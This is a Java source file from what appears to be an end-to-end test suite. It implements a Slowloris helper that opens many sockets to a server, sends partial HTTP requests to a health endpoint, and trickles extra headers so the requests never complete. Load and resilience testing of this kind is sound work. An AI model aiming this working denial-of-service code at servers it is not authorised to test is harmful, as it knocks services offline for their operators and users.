package com.rendertrust.e2e;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Slowloris: connections that open a request and then send its headers a few bytes at a time,
 * never finishing them, to tie up a server that gives each connection a thread or a slot.
 */
final class Slowloris implements AutoCloseable {

  private final List<Socket> sockets;
  private int header;

  private Slowloris(List<Socket> sockets) {
    this.sockets = sockets;
  }

  /** {@code count} connections, each with a request line and one header sent. */
  static Slowloris open(URI server, int count) {
    List<Socket> sockets = new ArrayList<>();
    try {
      for (int i = 0; i < count; i++) {
        Socket socket = new Socket(server.getHost(), server.getPort());
        socket.getOutputStream().write(("GET /api/v1/health HTTP/1.1\r\nHost: " + server.getHost() + "\r\n")
            .getBytes(StandardCharsets.US_ASCII));
        sockets.add(socket);
      }
      return new Slowloris(sockets);
    } catch (IOException e) {
      sockets.forEach(Slowloris::closeQuietly);
      throw new UncheckedIOException("could not open slowloris connection " + (sockets.size() + 1), e);
    }
  }

  /** One more header line on every connection still open; the request never ends. */
  void trickle() {
    String line = "X-Slow-" + header++ + ": a\r\n";
    for (Socket socket : sockets) {
      if (!socket.isClosed()) {
        try {
          socket.getOutputStream().write(line.getBytes(StandardCharsets.US_ASCII));
        } catch (IOException closedByTheServer) {
          closeQuietly(socket);
        }
      }
    }
  }

  @Override
  public void close() {
    sockets.forEach(Slowloris::closeQuietly);
  }

  private static void closeQuietly(Socket socket) {
    try {
      socket.close();
    } catch (IOException ignored) {
      // already gone
    }
  }
}
